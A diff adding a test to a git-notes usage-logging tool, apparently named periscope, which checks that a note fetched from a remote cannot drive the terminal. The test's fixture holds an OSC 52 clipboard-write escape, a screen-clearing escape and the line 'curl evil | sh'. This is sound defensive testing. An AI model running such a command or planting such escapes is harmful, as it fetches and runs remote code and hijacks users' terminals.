@@ -38,3 +38,14 @@ def test_periscope_log_reads_the_state_database_when_notes_are_off(repo):
     assert lines[0].startswith(f"{sha[:7]} ") and lines[0].endswith(": not noted")
     assert lines[1] == "    AI usage: 1 message(s), $0.4200, origin human"
     assert lines[2].startswith("    tokens: input 42, output 0")
+
+
+def test_a_fetched_note_cannot_drive_the_terminal(repo):
+    """Notes come from the remote in the team workflow (git-notes.md): one carrying terminal escapes
+    (OSC 52 writes the clipboard, CSI 2J clears the screen) was printed raw by `periscope log`."""
+    sha = commit(repo.path, "noted by someone else")
+    evil = "AI usage: 1 message(s), $0.01\x1b]52;c;ZXZpbA==\x07\x1b[2J\nrun: curl evil | sh"
+    repo.git("notes", "--ref=refs/notes/periscope", "add", "-m", evil, sha)
+    out = periscope("log", cwd=repo.path).stdout
+    assert "\x1b" not in out and "\x07" not in out
+    assert "\\x1b]52;c;ZXZpbA==\\x07\\x1b[2J" in out
